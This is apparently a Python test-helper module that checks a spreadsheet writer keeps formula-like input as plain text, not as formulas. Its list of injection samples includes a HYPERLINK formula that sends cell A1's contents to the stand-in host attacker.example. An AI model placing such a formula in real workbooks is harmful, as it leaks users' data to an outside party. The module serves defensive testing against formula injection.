"""Text that a spreadsheet would take for a formula, and checks that a written workbook keeps it as text."""
import re
import zipfile
from io import BytesIO

HYPERLINK = '=HYPERLINK("http://attacker.example/x?"&A1,"Bấm để xem")'
INJECTIONS = (HYPERLINK, "+84 912 345 678", "-1+2", "@SUM(A1:A2)", "\t=1+1", "\r=1+1")


def formula_count(content: bytes) -> int:
    """How many formula elements (<f>) the worksheets of an .xlsx hold."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return sum(len(re.findall(rb"<(?:\w+:)?f[ >/]", archive.read(name)))
                   for name in archive.namelist() if name.startswith("xl/worksheets/"))


def read_back(value):
    """What a written str reads back as: XML turns a carriage return into a line feed, nothing else changes."""
    return value.replace("\r", "\n")


def assert_plain_text(cell, value):
    """The cell reads back as the same text, as a string cell (data_type "s"), never a formula ("f")."""
    assert (cell.value, cell.data_type) == (read_back(value), "s")
